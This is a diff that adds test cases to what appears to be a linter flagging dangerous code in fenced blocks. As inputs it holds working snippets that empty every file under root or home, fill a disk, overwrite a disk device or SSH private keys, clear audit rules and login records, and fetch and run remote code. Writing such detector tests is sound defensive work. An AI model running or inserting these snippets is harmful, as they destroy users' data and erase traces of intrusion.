@@ -1616,3 +1616,59 @@ describe('timers given a function', () => {
     expect(threats(fence('js', 'const src = await (await fetch("https://x.example.net/r.js")).text();\nsetTimeout(src, 10);'))).toEqual(['threat/download-exec 9:1 error']);
   });
 });
+
+describe('threat/destructive: quiet destruction in other languages and forms', () => {
+  it('sees every file of a walk of the root or home folder emptied from Go and from Lua', () => {
+    const go = 'package main\n\nimport (\n\t"io/fs"\n\t"os"\n\t"path/filepath"\n)\n\nfunc main() {\n\tbase := "/"\n\tfilepath.Walk(base, func(p string, info fs.FileInfo, err error) error {\n\t\tif err == nil && !info.IsDir() {\n\t\t\tf, _ := os.Create(p)\n\t\t\tf.Close()\n\t\t}\n\t\treturn nil\n\t})\n}';
+    expect(threats(fence('go', go))).toEqual(['threat/destructive 18:1 error']);
+    const home = go.replace('base := "/"', 'base, _ := os.UserHomeDir()');
+    expect(threats(fence('go', home))).toEqual(['threat/destructive 18:1 error']);
+    const lua = 'local dir = os.getenv("HOME")\nlocal how = "wb"\nfor path in io.popen(\'find "\' .. dir .. \'" -type f\'):lines() do\n  local f = io.open(path, how)\n  if f then f:close() end\nend';
+    expect(threats(fence('lua', lua))).toEqual(['threat/destructive 11:1 error']);
+    // Reading every file is not emptying it.
+    expect(threats(fence('lua', lua.replace('"wb"', '"rb"')))).toEqual([]);
+    expect(threats(fence('go', go.replace('base := "/"', 'base := "./testdata"')))).toEqual([]);
+  });
+  it('sees a disk filled to the last byte by a benchmark', () => {
+    expect(threats(fence('bash', 'dd if=/dev/urandom of=/var/tmp/probe bs=8M'))).toEqual(['threat/destructive 8:1 error']);
+    expect(threats(fence('bash', 'free=$(df -B1 --output=avail "$HOME" | tail -1)\nfallocate --length "$free" ~/.cache/pad'))).toEqual(['threat/destructive 9:1 error']);
+    expect(threats(fence('bash', 'dd if=/dev/zero of=/var/tmp/probe bs=1M count=512 oflag=direct\nrm -f /var/tmp/probe'))).toEqual([]);
+    expect(threats(fence('bash', 'fallocate -l 2G /swapfile'))).toEqual([]);
+  });
+  it('sees a disk device or private SSH keys written over from Rust', () => {
+    const device = 'use std::fs::OpenOptions;\nfn main() {\n    let target = std::env::var("DISK").unwrap_or("/dev/sdb".into());\n    let mut out = OpenOptions::new().write(true).open(&target).unwrap();\n}';
+    expect(threats(fence('rust', device))).toEqual(['threat/destructive 11:1 error']);
+    expect(threats(fence('rust', device.replace('/dev/sdb', 'bench.bin')))).toEqual([]);
+    const keys = 'use std::fs::{self, OpenOptions};\nuse std::io::Write;\nfn main() {\n    let dir = format!("{}/.ssh", std::env::var("HOME").unwrap());\n    for e in fs::read_dir(&dir).unwrap().flatten() {\n        let p = e.path();\n        if p.to_string_lossy().contains("id_") {\n            let mut f = OpenOptions::new().write(true).truncate(true).open(&p).unwrap();\n            f.write_all(b"").unwrap();\n        }\n    }\n}';
+    expect(threats(fence('rust', keys.replace('contains("id_")', 'contains("id_ed25519")')))).toEqual(['threat/destructive 15:1 error']);
+    // Listing the keys to fix their permissions writes nothing into them.
+    expect(threats(fence('rust', keys.replace('contains("id_")', 'contains("id_ed25519")').replace(/let mut f = [^\n]*\n[^\n]*\n/, 'fs::set_permissions(&p, fs::Permissions::from_mode(0o600)).unwrap();\n')))).toEqual([]);
+  });
+});
+
+describe('threat/security-tampering: traces erased from a program', () => {
+  it('reads a command kept as a list of words and sees login records emptied', () => {
+    expect(threats(fence('python', 'import subprocess\nsubprocess.call(["auditctl", "-D"])'))).toEqual(['threat/security-tampering 9:1 error']);
+    expect(threats(fence('python', 'for name in ["/var/log/wtmp", "/var/log/btmp"]:\n    with open(name, "w") as fh:\n        pass'))).toEqual(['threat/security-tampering 9:10 error']);
+    expect(threats(fence('python', 'for name in ["/var/log/myapp/app.log"]:\n    with open(name, "w") as fh:\n        pass'))).toEqual([]);
+    expect(threats(fence('python', 'import subprocess\nsubprocess.call(["auditctl", "-l"])'))).toEqual([]);
+  });
+});
+
+describe('destructive and persistence look-alikes that stay quiet', () => {
+  it('trusts a database drop refused unless the host is this machine', () => {
+    const reset = 'host=$(printf %s "$URL" | cut -d@ -f2 | cut -d/ -f1)\ncase "$host" in localhost|127.0.0.1) ;; *) echo "not local"; exit 1 ;; esac\ndropdb --if-exists -h "$host" app_dev';
+    expect(threats(fence('bash', reset))).toEqual([]);
+    expect(threats(fence('bash', reset.replace(/^case[^\n]*\n/m, '')))).toEqual(['threat/destructive 9:1 error']);
+  });
+  it('reads a listing narrowed by a pattern, or one setting read back, as not everything', () => {
+    expect(threats(fence('bash', 'for r in $(helm list -q | grep -E "^review-[0-9]+$"); do\n  helm uninstall "$r"\ndone'))).toEqual([]);
+    expect(threats(fence('bash', 'for r in $(helm list -q); do\n  helm uninstall "$r"\ndone'))).toEqual(['threat/destructive 9:3 error']);
+    expect(threats(fence('bash', 'old=$(aws configure get aws_access_key_id)\naws iam delete-access-key --access-key-id "$old"'))).toEqual([]);
+  });
+  it('does not read the document type of a property list as a download', () => {
+    const agent = 'cat > ~/Library/LaunchAgents/com.me.tidy.plist <<EOF\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>ProgramArguments</key><array><string>$HOME/bin/tidy.sh</string></array></dict></plist>\nEOF';
+    expect(threats(fence('bash', agent)).filter((finding) => finding.endsWith('error'))).toEqual([]);
+    expect(threats(fence('bash', agent.replace('$HOME/bin/tidy.sh', 'https://x.example.net/t.sh'))).filter((finding) => finding.endsWith('error'))).toEqual(['threat/persistence 8:1 error']);
+  });
+});
